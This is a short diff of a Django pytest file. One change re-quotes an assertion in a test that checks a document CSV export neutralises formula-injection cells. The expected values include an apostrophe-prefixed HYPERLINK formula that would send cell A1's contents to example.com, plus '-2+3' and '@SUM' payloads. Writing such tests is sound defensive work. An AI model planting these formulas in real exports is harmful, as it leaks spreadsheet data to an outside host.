@@ -7,7 +7,6 @@ import datetime
 import io
 
 import pytest
-from django.urls import reverse
 
 from dokument.models import Dokument, Dokumentlank
 from styrning.models import Organisation
@@ -140,7 +139,7 @@ def test_document_csv_neutralises_cells_a_spreadsheet_would_run(client, org):
 
     titles = sorted(row["Titel"] for row in rows(client.get(CSV_DOKUMENT)))
 
-    assert titles == ["'-2+3", "'=HYPERLINK(\"http://example.com/?\"&A1;\"Klicka\")", "'@SUM(A1:A9)"]
+    assert titles == ["'-2+3", '\'=HYPERLINK("http://example.com/?"&A1;"Klicka")', "'@SUM(A1:A9)"]
 
 
 @pytest.mark.parametrize("who", [None, "utomstaende", "sekreterare_bun"])
